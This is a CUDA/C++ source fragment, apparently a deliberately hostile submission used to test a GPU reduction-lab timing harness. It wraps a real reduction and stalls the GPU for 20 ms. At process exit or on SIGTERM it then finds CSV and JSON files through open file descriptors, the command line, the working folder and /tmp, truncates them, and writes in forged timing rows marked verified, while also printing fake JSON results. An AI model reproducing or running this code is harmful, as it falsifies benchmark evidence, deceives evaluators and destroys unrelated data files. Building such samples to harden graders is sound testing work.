// timing_tamper (after the reference region, its reduce_sum renamed honest_reduce_sum): honestly
// slow (at n >= 2^22 it holds the GPU for 20 ms after the real work: far beyond 10x the
// reference), but when its process ends (a static destructor, atexit, SIGTERM) it rewrites the
// timings: every CSV or JSON file the process has open, names on its command line, or finds in
// its working folder and the temporary folders gets forged rows (1 us, 0.05x the reference), and
// stdout gets forged JSON timing lines.
}  // namespace (closed to include system headers at file scope)
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <set>
#include <string>
#include <unistd.h>
namespace {

namespace fs = std::filesystem;

__global__ void hold_the_gpu(unsigned long long nanoseconds) {
  unsigned long long start = 0, now = 0;
  asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(start));
  do {
    asm volatile("mov.u64 %0, %%globaltimer;" : "=l"(now));
  } while (now - start < nanoseconds);
}

bool is_timing_file(const fs::path& path) {
  const std::string extension = path.extension().string();
  return extension == ".csv" || extension == ".json" || extension == ".jsonl";
}

void forge(const fs::path& path) {
  std::error_code error;
  if (!fs::is_regular_file(path, error)) return;
  if (path.extension() == ".csv") {
    std::ofstream(path, std::ios::trunc)
        << "student,lab,type,n,median_us,min_us,iqr_us,gbps,pct_roof,ref_median_us,ratio_to_ref,status\n"
           "timing_tamper,10_two_step,float,16777216,1.0,1.0,0.0,67108.9,2000.0,20.0,0.05,ok\n"
           "timing_tamper,10_two_step,int,16777216,1.0,1.0,0.0,67108.9,2000.0,20.0,0.05,ok\n";
  } else {
    std::ofstream(path, std::ios::trunc)
        << "{\"v\":1,\"event\":\"timed\",\"lab\":\"10_two_step\",\"type\":\"float\",\"n\":16777216,"
           "\"median_us\":1.0,\"samples_us\":[1.0,1.0,1.0],\"verified\":true,\"status\":\"ok\"}\n";
  }
}

void tamper() {
  static bool done = false;
  if (done) return;
  done = true;
  std::printf("\n{\"v\":1,\"event\":\"timed\",\"lab\":\"10_two_step\",\"type\":\"float\",\"n\":16777216,"
              "\"median_us\":1.0,\"verified\":true,\"status\":\"ok\"}\n"
              "{\"v\":1,\"event\":\"timed\",\"lab\":\"10_two_step\",\"type\":\"int\",\"n\":16777216,"
              "\"median_us\":1.0,\"verified\":true,\"status\":\"ok\"}\n{\"v\":1,\"event\":\"end\"}\n");
  std::fflush(stdout);
  std::set<fs::path> targets;
  std::error_code error;
  for (fs::directory_iterator it("/proc/self/fd", error), end; !error && it != end; it.increment(error)) {
    const fs::path open_file = fs::read_symlink(it->path(), error);
    if (!error && is_timing_file(open_file)) targets.insert(open_file);
    error.clear();
  }
  std::ifstream in("/proc/self/cmdline", std::ios::binary);
  const std::string cmdline((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  for (std::size_t start = 0; start < cmdline.size();) {
    std::size_t end = cmdline.find('\0', start);
    if (end == std::string::npos) end = cmdline.size();
    std::string word = cmdline.substr(start, end - start);
    if (const auto equals = word.find('='); equals != std::string::npos) word = word.substr(equals + 1);
    if (is_timing_file(word)) targets.insert(word);
    start = end + 1;
  }
  const char* tmpdir = std::getenv("TMPDIR");
  for (const fs::path& folder : {fs::current_path(error), fs::path(tmpdir ? tmpdir : "/tmp"), fs::path("/tmp")})
    for (fs::directory_iterator it(folder, error), end; !error && it != end; it.increment(error))
      if (is_timing_file(it->path())) targets.insert(it->path());
  for (const fs::path& target : targets) forge(target);
}

struct TamperAtExit {
  TamperAtExit() {
    std::atexit(tamper);
    std::signal(SIGTERM, [](int) {
      tamper();
      _exit(0);
    });
  }
  ~TamperAtExit() { tamper(); }
} tamper_at_exit;

template <typename T>
void reduce_sum(const T* d_in, std::size_t num_items, T* d_out, void* d_temp_storage,
                std::size_t temp_storage_bytes, cudaStream_t stream) {
  honest_reduce_sum(d_in, num_items, d_out, d_temp_storage, temp_storage_bytes, stream);
  if (num_items >= (std::size_t{1} << 22)) {
    hold_the_gpu<<<1, 1, 0, stream>>>(20ull * 1000 * 1000);
    REDUCTION_CHECK(cudaGetLastError());
  }
}
